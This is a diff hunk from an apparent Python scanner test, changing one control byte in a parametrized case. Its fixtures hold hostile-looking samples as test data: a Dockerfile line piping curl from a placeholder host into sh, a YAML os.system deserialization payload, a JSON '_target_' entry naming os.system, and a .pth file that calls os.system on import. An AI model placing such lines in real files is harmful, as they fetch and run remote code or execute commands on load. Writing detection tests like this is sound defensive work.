@@ -570,7 +570,7 @@ def test_reading_of_a_long_text_with_one_emoji_needs_less_memory_than_three_time
         ("Dockerfile", b"# \x01\nFROM x\nRUN curl http://e.invalid/x | sh\n", "http://e.invalid/x"),
         ("page.html", b"\x01<html>\x00<script>void 0</script></html>", "script"),
         ("a.yaml", b"# \x02\na: !!python/object/apply:os.system ['true']\n", "os.system"),
-        ("a.json", b'{"a": "\x7f", "_target_": "os.system"}', "os.system"),
+        ("a.json", b'{"a": "\x01", "_target_": "os.system"}', "os.system"),
         ("folder/run.pth", b"import os; os.system('true \x01')\n", "os.system"),
     ],
 )
